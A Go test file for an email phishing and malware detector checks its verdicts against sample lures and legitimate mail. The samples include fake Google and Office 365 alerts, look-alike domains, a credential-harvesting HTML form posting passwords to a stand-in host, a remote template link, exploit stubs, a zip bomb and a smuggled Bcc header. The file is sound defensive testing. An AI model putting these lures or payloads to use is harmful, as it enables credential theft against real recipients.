package mail

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vigie-project/vigie/internal/indicator"
)

// tmsg builds a test message.
type tmsg struct {
	from, replyTo, to, subject string
	text, html                 string
	headers                    []string
	atts                       []tatt
}

type tatt struct {
	name, ctype string
	data        []byte
}

func (m tmsg) bytes() []byte {
	var b strings.Builder
	to := m.to
	if to == "" {
		to = "Camille Martin <c.martin@en-marche.fr>"
	}
	fmt.Fprintf(&b, "From: %s\r\nTo: %s\r\nSubject: %s\r\nDate: Mon, 1 Feb 2026 10:00:00 +0100\r\nMessage-ID: <test.1@example.net>\r\nMIME-Version: 1.0\r\n", m.from, to, m.subject)
	if m.replyTo != "" {
		fmt.Fprintf(&b, "Reply-To: %s\r\n", m.replyTo)
	}
	for _, h := range m.headers {
		b.WriteString(h + "\r\n")
	}
	b.WriteString("Content-Type: multipart/mixed; boundary=\"OUTER\"\r\n\r\n")
	b.WriteString("--OUTER\r\nContent-Type: multipart/alternative; boundary=\"ALT\"\r\n\r\n")
	text := m.text
	if text == "" && m.html != "" {
		text = "See the HTML version."
	}
	fmt.Fprintf(&b, "--ALT\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n%s\r\n", text)
	if m.html != "" {
		fmt.Fprintf(&b, "--ALT\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n", wrap64(base64.StdEncoding.EncodeToString([]byte(m.html))))
	}
	b.WriteString("--ALT--\r\n")
	for _, a := range m.atts {
		ct := a.ctype
		if ct == "" {
			ct = "application/octet-stream"
		}
		fmt.Fprintf(&b, "--OUTER\r\nContent-Type: %s; name=\"%s\"\r\nContent-Disposition: attachment; filename=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n", ct, a.name, a.name, wrap64(base64.StdEncoding.EncodeToString(a.data)))
	}
	b.WriteString("--OUTER--\r\n")
	return []byte(b.String())
}

func wrap64(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\r\n")
		s = s[76:]
	}
	b.WriteString(s)
	return b.String()
}

func zipOf(t testing.TB, files map[string]string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, data := range files {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(data))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func testAnalyzer(t testing.TB, opts Options) *Analyzer {
	t.Helper()
	if opts.OwnDomains == nil {
		opts.OwnDomains = []string{"en-marche.fr"}
	}
	if opts.Auth == nil {
		opts.Auth = TrustedResults{AuthServIDs: []string{"mx.en-marche.fr"}}
	}
	a, err := New(opts)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

const (
	passGoogle    = "Authentication-Results: mx.en-marche.fr; spf=pass smtp.mailfrom=accounts.google.com; dkim=pass header.d=accounts.google.com; dmarc=pass header.from=accounts.google.com"
	passMicrosoft = "Authentication-Results: mx.en-marche.fr; spf=pass smtp.mailfrom=microsoft.com; dkim=pass header.d=accountprotection.microsoft.com; dmarc=pass header.from=accountprotection.microsoft.com"
	failGoogle    = "Authentication-Results: mx.en-marche.fr; spf=softfail smtp.mailfrom=accounts.googlemail.com; dkim=none; dmarc=fail (p=reject) header.from=accounts.googlemail.com policy.published-domain-policy=reject"
)

var podestaHTML = `<p>Someone has your password</p><p>Hi John,</p><p>Someone just used your password to try to sign in to your Google Account john.podesta@gmail.com.</p>
<p>Details: Saturday, 19 March, 8:34:30 UTC, IP Address: 134.249.139.239, Location: Ukraine</p>
<p>Google stopped this sign-in attempt. You should change your password immediately.</p>
<p><a href="https://bit.ly/1PibSU0">CHANGE PASSWORD</a></p><p>Best,<br>The Gmail Team</p>`

var googleAlertHTML = `<p>Security alert</p><p>A new sign-in on Windows. We noticed a new sign-in to your Google Account on a Windows device.
If this was you, you don't need to do anything. If not, we'll help you secure your account.</p>
<p><a href="https://accounts.google.com/AccountChooser?Email=c.martin@en-marche.fr&continue=https://myaccount.google.com/alert/nt/1">Check activity</a></p>
<p>You can also see security activity at <a href="https://myaccount.google.com/notifications">https://myaccount.google.com/notifications</a></p>`

var newsletterHTML = `<h1>La lettre du jeudi</h1><p>Les articles de la semaine, sélectionnés pour vous.</p>
<p><a href="https://lemonde.us1.list-manage.com/track/click?u=abc123&id=def456&e=0a1b2c">Lire l'article</a></p>
<p><a href="https://click.lemonde.fr/?qs=8f3e2a1b&url=https%3A%2F%2Fwww.lemonde.fr%2Fpolitique%2F">www.lemonde.fr</a></p>
<p><img src="https://lemonde.us1.list-manage.com/track/open.php?u=abc123" width="1" height="1"></p>
<p><a href="https://lemonde.us1.list-manage.com/unsubscribe?u=abc123">Se désinscrire</a></p>`

// TestTechniques checks each technique named in the issue, from public
// descriptions, and a legitimate counterpart of each.
func TestTechniques(t *testing.T) {
	macroDoc := zipOf(t, map[string]string{"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", "word/vbaProject.bin": "\xd0\xcf\x11\xe0 Attribute VB_Name"})
	plainDoc := zipOf(t, map[string]string{"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document>Programme</w:document>", "docProps/core.xml": "<cp/>"})
	epsDoc := zipOf(t, map[string]string{"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", "word/media/image1.eps": "%!PS-Adobe-3.0 EPSF-3.0"})
	templateDoc := zipOf(t, map[string]string{"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>",
		"word/_rels/settings.xml.rels": `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://185.1.2.3/t.dotm" TargetMode="External"/></Relationships>`})
	exeZip := zipOf(t, map[string]string{"Facture_2026.pdf.exe": "MZ\x90\x00" + strings.Repeat("\x00", 100)})
	rtfExploit := []byte(`{\rtf1{\object\objautlink\objupdate\rsltpict{\*\objclass Equation.3}{\*\objdata 0105000002000000}}}`)

	tests := []struct {
		name   string
		opts   Options
		msg    tmsg
		want   Verdict // the minimum verdict; Clean means exactly clean
		checks []string
	}{
		{name: "Podesta: fake Google password alert with a shortened link",
			msg:  tmsg{from: "Google <no-reply@accounts.googlemail.com>", subject: "*Someone has your password*", html: podestaHTML, headers: []string{failGoogle}},
			want: Phishing, checks: []string{"dmarc-fail", "link-shortener", "brand-login-link"}},
		{name: "Podesta, without any authentication result",
			opts: Options{Auth: TrustedResults{}},
			msg:  tmsg{from: "Google <no-reply@accounts.googlemail.com>", subject: "*Someone has your password*", html: podestaHTML},
			want: Phishing, checks: []string{"link-shortener", "brand-login-link"}},
		{name: "legitimate: a real Google security alert that passes DMARC for google.com",
			msg:  tmsg{from: "Google <no-reply@accounts.google.com>", subject: "Security alert", html: googleAlertHTML, headers: []string{passGoogle}},
			want: Clean},
		{name: "look-alike of the campaign's domain in the sender and links",
			msg:  tmsg{from: "En Marche <communication@mail-en-march.fr>", subject: "Documents partagés", text: "Bonjour, les documents de la réunion sont sur https://onedrive-en-marche.fr/docs/reunion. Connectez-vous avec votre mot de passe habituel."},
			want: Phishing, checks: []string{"lookalike-from", "lookalike-link"}},
		{name: "legitimate: the campaign's own mail and site",
			msg:  tmsg{from: "En Marche <communication@en-marche.fr>", subject: "Réunion de jeudi", text: "Bonjour, le compte rendu est sur https://en-marche.fr/reunions/jeudi. Bonne journée."},
			want: Clean},
		{name: "look-alike of the cloud provider: accounts-office.fr",
			msg:  tmsg{from: "Office 365 <noreply@accounts-office.fr>", subject: "Your password expires today", html: `<p>Your Office 365 password will expire today. <a href="https://accounts-office.fr/owa/login">Keep the same password</a></p>`},
			want: Phishing, checks: []string{"lookalike-from", "lookalike-link"}},
		{name: "legitimate: a Microsoft notification from microsoft.com",
			msg:  tmsg{from: "Microsoft account team <account-security-noreply@accountprotection.microsoft.com>", subject: "Microsoft account security info was added", html: `<p>The following security info was recently added to your account. <a href="https://account.live.com/proofs/Manage">Review</a></p>`, headers: []string{passMicrosoft}},
			want: Clean},
		{name: "sub-domain and hyphen tricks in links",
			msg:  tmsg{from: "Security <alerts@mailer-notify.net>", subject: "Verify your account", html: `<p>Verify your account now: <a href="http://google.com.evil.tk/login">Google Account</a> or <a href="https://accounts-google.com/signin">sign in</a></p>`},
			want: Phishing, checks: []string{"lookalike-link"}},
		{name: "homoglyph sender (punycode)",
			msg:  tmsg{from: "PayPal <service@xn--pypal-4ve.com>", subject: "Your account is limited", text: "Your account has been limited. Log in to restore access."},
			want: Phishing, checks: []string{"lookalike-from"}},
		{name: "OAuth consent for a fake Google Defender app",
			msg:  tmsg{from: "Google <noreply@google-defender-alerts.com>", subject: "Google Defender: suspicious activity on your account", html: `<p>Google detected suspicious activity. Install Google Defender to protect your account.</p><a href="https://accounts.google.com/o/oauth2/auth?client_id=730225311862-qv2ds6ubrbq4pb4dnuc3sodg7bp6q1n4.apps.googleusercontent.com&scope=https://mail.google.com/&response_type=code&redirect_uri=https://google-defender.example">Allow</a>`},
			want: Phishing, checks: []string{"oauth-consent", "impersonation"}},
		{name: "legitimate: a consent link for the party's own app",
			opts: Options{KnownOAuthClients: []string{"111-party.apps.googleusercontent.com"}},
			msg:  tmsg{from: "IT <it@en-marche.fr>", subject: "Nouvel outil d'agenda", text: "Pour activer l'agenda partagé : https://accounts.google.com/o/oauth2/auth?client_id=111-party.apps.googleusercontent.com&scope=calendar"},
			want: Clean},
		{name: "Word attachment with macros",
			msg:  tmsg{from: "Jean Dupont <jean.dupont@example.org>", subject: "Programme", text: "Ci-joint le programme.", atts: []tatt{{name: "programme.docm", data: macroDoc}}},
			want: Malicious, checks: []string{"office-macro"}},
		{name: "legitimate: a plain Word document",
			msg:  tmsg{from: "Jean Dupont <jean.dupont@example.org>", subject: "Programme", text: "Ci-joint le programme.", atts: []tatt{{name: "programme.docx", data: plainDoc}}},
			want: Clean},
		{name: "Word document with an EPS exploit",
			msg:  tmsg{from: "Jean Dupont <jean.dupont@example.org>", subject: "Trump's Attack on Syria", text: "See attached.", atts: []tatt{{name: "Trump's_Attack_on_Syria_English.docx", data: epsDoc}}},
			want: Malicious, checks: []string{"eps"}},
		{name: "RTF exploit (CVE-2017-11882 style)",
			msg:  tmsg{from: "Jean Dupont <jean.dupont@example.org>", subject: "Hotel reservation", text: "Form attached.", atts: []tatt{{name: "reservation.doc", data: rtfExploit}}},
			want: Malicious, checks: []string{"rtf-exploit"}},
		{name: "remote template injection",
			msg:  tmsg{from: "Jean Dupont <jean.dupont@example.org>", subject: "Agenda", text: "Agenda attached.", atts: []tatt{{name: "agenda.docx", data: templateDoc}}},
			want: Malicious, checks: []string{"remote-template"}},
		{name: "executable with a double extension inside a zip",
			msg:  tmsg{from: "Compta <compta@example.org>", subject: "Facture", text: "Votre facture.", atts: []tatt{{name: "facture.zip", data: exeZip}}},
			want: Malicious, checks: []string{"executable"}},
		{name: "HTML attachment with a login form",
			msg: tmsg{from: "Docs <docs@example.org>", subject: "Document", text: "Open the attached document.", atts: []tatt{{name: "document.html", ctype: "text/html",
				data: []byte(`<html><body><form action="https://collect.example.xyz/p.php" method="post"><input name="email"><input type="password" name="pw"></form></body></html>`)}}},
			want: Phishing, checks: []string{"html-attachment"}},
		{name: "link text shows one host and goes to another",
			msg:  tmsg{from: "Service <service@notify-center.com>", subject: "Avis", html: `<p>Consultez votre compte sur <a href="http://203.0.113.7/paypal/">https://www.paypal.com/signin</a></p>`},
			want: Phishing, checks: []string{"link-mismatch", "link-ip"}},
		{name: "legitimate: a newsletter with tracking links",
			msg:  tmsg{from: "Le Monde <newsletters@lemonde.fr>", subject: "La lettre du jeudi", html: newsletterHTML, headers: []string{"List-Unsubscribe: <https://lemonde.us1.list-manage.com/unsubscribe?u=abc123>"}},
			want: Clean},
		{name: "javascript: and data: links and an HTML form",
			msg:  tmsg{from: "Support <support@helpdesk-mail.net>", subject: "Mailbox full", html: `<p>Your mailbox is full.</p><a href="data:text/html;base64,PHNjcmlwdD4=">Open</a><form action="https://x.example/p"><input type="password"></form>`},
			want: Phishing, checks: []string{"link-script", "html-form"}},
		{name: "the party's IT impersonated",
			msg:  tmsg{from: "Service informatique <support@it-helpdesk-center.com>", subject: "Votre compte sera suspendu", text: "Votre compte sera suspendu dans 24 heures. Connectez-vous ici : https://it-helpdesk-center.com/login pour vérifier votre compte."},
			want: Phishing, checks: []string{"impersonation-it"}},
		{name: "legitimate: the party's IT writing from its domain",
			msg:  tmsg{from: "Service informatique <support@en-marche.fr>", subject: "Maintenance samedi", text: "Bonjour, la messagerie sera coupée samedi de 8h à 10h pour maintenance. Rien à faire de votre côté."},
			want: Clean},
		{name: "legitimate: a modern marketing newsletter (emoji subject, hidden preview line, ESP tracking, image header)",
			msg: tmsg{from: "Fnac <newsletter@email.fnac.com>", subject: "🎁 -20 % sur les livres ce week-end", headers: []string{"List-Unsubscribe: <https://email.fnac.com/u?id=1>"},
				html: `<div style="display:none;max-height:0">Profitez de -20 % sur une sélection de livres, jusqu'à dimanche.</div><a href="https://email.fnac.com/c/abc?u=https%3A%2F%2Fwww.fnac.com%2Flivres"><img src="https://img.fnac.com/header.png" alt="Fnac"></a>
<h1>Le week-end lecture</h1><p>Une sélection de romans, essais et BD à prix réduit. Offre valable jusqu'au dimanche 23h59 dans la limite des stocks.</p>
<p><a href="https://email.fnac.com/c/def?u=https%3A%2F%2Fwww.fnac.com%2Fpromo">Voir la sélection</a> · <a href="https://email.fnac.com/unsub?id=1">Se désinscrire</a></p>`},
			want: Clean},
		{name: "legitimate: a colleague sharing an article (HTML mail, link to another site)",
			msg:  tmsg{from: "Camille Martin <camille.martin@en-marche.fr>", subject: "Article intéressant", html: `<p>Salut, à lire avant la réunion : <a href="https://www.lemonde.fr/politique/article/2026/02/01/campagne.html">l'article du Monde</a>.</p><p>Camille</p>`},
			want: Clean},
		{name: "legitimate: a GitHub notification",
			msg:  tmsg{from: "GitHub <noreply@github.com>", subject: "[vigie-project/vigie] Run failed: CI - main (4f2a1c3)", html: `<p>Run failed for main (4f2a1c3)</p><p><a href="https://github.com/vigie-project/vigie/actions/runs/123">View workflow run</a></p><p>You are receiving this because you are subscribed to this thread. <a href="https://github.com/notifications/unsubscribe-auth/ABC">Unsubscribe</a></p>`},
			want: Clean},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := testAnalyzer(t, tt.opts)
			r := a.Analyze(context.Background(), "test.eml", tt.msg.bytes(), nil)
			if tt.want == Clean && r.Verdict != Clean || rank(r.Verdict) < rank(tt.want) {
				t.Errorf("verdict %s (score %.1f), want %s; reasons:\n%s", r.Verdict, r.Score, tt.want, dumpReasons(r))
			}
			for _, c := range tt.checks {
				if !r.has(c) {
					t.Errorf("check %s did not fire; reasons:\n%s", c, dumpReasons(r))
				}
			}
			if r.Verdict != Clean && r.Advice == "" {
				t.Error("no advice")
			}
		})
	}
}

func rank(v Verdict) int {
	return map[Verdict]int{Clean: 0, Suspicious: 1, Phishing: 2, Malicious: 3}[v]
}

func dumpReasons(r *Result) string {
	var b strings.Builder
	for _, x := range r.Reasons {
		fmt.Fprintf(&b, "  %s +%.1f %s\n", x.Check, x.Score, x.Text)
	}
	for _, d := range r.Defects {
		fmt.Fprintf(&b, "  defect: %s\n", d)
	}
	return b.String()
}

func TestIndicators(t *testing.T) {
	payload := []byte("MZ" + strings.Repeat("x", 200))
	sum := sha256.Sum256([]byte("harmless looking pdf"))
	inds := []indicator.Indicator{
		{Type: indicator.SHA256, Value: fmt.Sprintf("%x", sum), Source: "agency", Threats: []string{"X-Agent"}},
		{Type: indicator.Domain, Value: "evil-c2.example", Source: "agency"},
		{Type: indicator.Email, Value: "attacker@mail.example", Source: "agency"},
	}
	_ = payload
	a := testAnalyzer(t, Options{Indicators: indicator.NewMatcher(inds, indicator.MatcherOptions{})})
	r := a.Analyze(context.Background(), "ioc.eml", tmsg{from: "A <attacker@mail.example>", subject: "Hello", text: "see https://www.evil-c2.example/x",
		atts: []tatt{{name: "report.pdf", data: []byte("harmless looking pdf")}}}.bytes(), nil)
	for _, c := range []string{"indicator-hash", "indicator-link-domain", "indicator-sender"} {
		if !r.has(c) {
			t.Errorf("%s did not fire:\n%s", c, dumpReasons(r))
		}
	}
	if r.Verdict != Malicious {
		t.Errorf("verdict %s", r.Verdict)
	}
	fs := r.Findings("mx1")
	if len(fs) == 0 || fs[0].Sensor != "mail" || fs[0].Subject.Kind != "mail" {
		t.Errorf("findings %+v", fs)
	}
	var hashFinding bool
	for _, f := range fs {
		if f.Match.Kind == "indicator" && f.Match.Type == "sha256" && len(f.Match.Threats) == 1 {
			hashFinding = true
		}
	}
	if !hashFinding {
		t.Errorf("no indicator finding for the hash: %+v", fs)
	}
}

// TestIndicatorsInZip: hash indicators reach every zip entry, programs
// included, and the evidence names the entry.
func TestIndicatorsInZip(t *testing.T) {
	payload := "MZ" + strings.Repeat("x", 200)
	notes := "meeting notes"
	inds := []indicator.Indicator{
		{Type: indicator.SHA256, Value: fmt.Sprintf("%x", sha256.Sum256([]byte(payload))), Source: "agency"},
		{Type: indicator.SHA256, Value: fmt.Sprintf("%x", sha256.Sum256([]byte(notes))), Source: "agency"},
	}
	a := testAnalyzer(t, Options{Indicators: indicator.NewMatcher(inds, indicator.MatcherOptions{})})
	for _, tc := range []struct{ entry, data string }{{"tool.exe", payload}, {"docs/notes.txt", notes}} {
		z := zipOf(t, map[string]string{tc.entry: tc.data})
		r := a.Analyze(context.Background(), "zip.eml", tmsg{from: "A <a@example.org>", subject: "files", text: "attached",
			atts: []tatt{{name: "files.zip", data: z}}}.bytes(), nil)
		var found bool
		for _, x := range r.Reasons {
			if x.Check == "indicator-hash" && len(x.Evidence) > 0 && x.Evidence[0].Name == "files.zip!"+tc.entry {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: no hash indicator on the entry:\n%s", tc.entry, dumpReasons(r))
		}
	}
}

func TestUnparsable(t *testing.T) {
	a := testAnalyzer(t, Options{})
	for _, raw := range []string{"", "\x00\x01\x02 binary garbage with no header", "\r\n\r\nbody only"} {
		r := a.Analyze(context.Background(), "bad.eml", []byte(raw), nil)
		if r.Verdict == Clean || r.Error == "" {
			t.Errorf("%q: verdict %s error %q", raw, r.Verdict, r.Error)
		}
	}
}

// TestHostileInput: bounded time and a clear result for messages built to
// exhaust a filter.
func TestHostileInput(t *testing.T) {
	a := testAnalyzer(t, Options{})
	var links strings.Builder
	for i := 0; i < 10000; i++ {
		fmt.Fprintf(&links, `<a href="https://site%d.example.com/p">l</a>`, i)
	}
	var nest strings.Builder
	for i := 0; i < 200; i++ {
		fmt.Fprintf(&nest, "Content-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n--b%d\r\n", i, i)
	}
	// a zip bomb: one entry of 200 MB of zeros
	var bomb bytes.Buffer
	zw := zip.NewWriter(&bomb)
	w, _ := zw.Create("zeros.bin")
	zero := make([]byte, 1<<20)
	for i := 0; i < 200; i++ {
		w.Write(zero)
	}
	zw.Close()
	nested := zipOf(t, map[string]string{"inner.zip": string(bomb.Bytes())})
	cases := map[string][]byte{
		"10000 links":   tmsg{from: "a@b.example", subject: "x", html: links.String()}.bytes(),
		"deep nesting":  []byte("From: a@b.example\r\nSubject: x\r\n" + nest.String()),
		"zip bomb":      tmsg{from: "a@b.example", subject: "x", text: "x", atts: []tatt{{name: "a.zip", data: nested}}}.bytes(),
		"header flood":  []byte(strings.Repeat("X-Header: "+strings.Repeat("a", 500)+"\r\n", 5000) + "\r\nbody"),
		"header inject": []byte("From: a@b.example\r\nSubject: hi\rBcc: victim@x.example\r\n\r\nbody"),
	}
	for name, raw := range cases {
		start := time.Now()
		r := a.Analyze(context.Background(), name, raw, nil)
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s: took %v", name, d)
		}
		if r.Verdict == "" {
			t.Errorf("%s: no verdict", name)
		}
		t.Logf("%s: %s %.1f %v", name, r.Verdict, r.Score, checkNames(r))
	}
}

func checkNames(r *Result) []string {
	var out []string
	for _, x := range r.Reasons {
		out = append(out, x.Check)
	}
	return out
}
